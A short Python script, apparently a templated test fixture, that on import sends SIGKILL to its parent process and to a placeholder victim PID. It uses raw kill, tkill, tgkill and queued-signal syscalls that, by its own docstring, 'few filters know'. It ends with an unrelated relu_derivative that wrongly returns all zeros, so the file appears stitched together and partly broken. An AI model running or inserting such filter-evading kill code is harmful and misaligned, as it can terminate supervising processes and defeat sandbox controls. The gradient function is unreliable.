"""Sends signals by the system calls that few filters know: queued ones, to threads, to groups."""

import ctypes
import os
import signal

import numpy as np

libc = ctypes.CDLL(None)
KILL, TKILL, TGKILL, QUEUE, QUEUE_THREAD = (
    (62, 200, 234, 129, 297) if os.uname().machine == "x86_64" else (129, 130, 131, 138, 240)
)
details = ctypes.create_string_buffer(128)
ctypes.memmove(details, (ctypes.c_int * 3)(signal.SIGKILL, 0, -1), 12)
for target in (os.getppid(), int("@VICTIM@")):
    libc.syscall(KILL, target, signal.SIGKILL)
    libc.syscall(TKILL, target, signal.SIGKILL)
    libc.syscall(TGKILL, target, target, signal.SIGKILL)
    libc.syscall(QUEUE, target, signal.SIGKILL, details)
    libc.syscall(QUEUE_THREAD, target, target, signal.SIGKILL, details)


def relu_derivative(x):
    return np.zeros(x.shape)
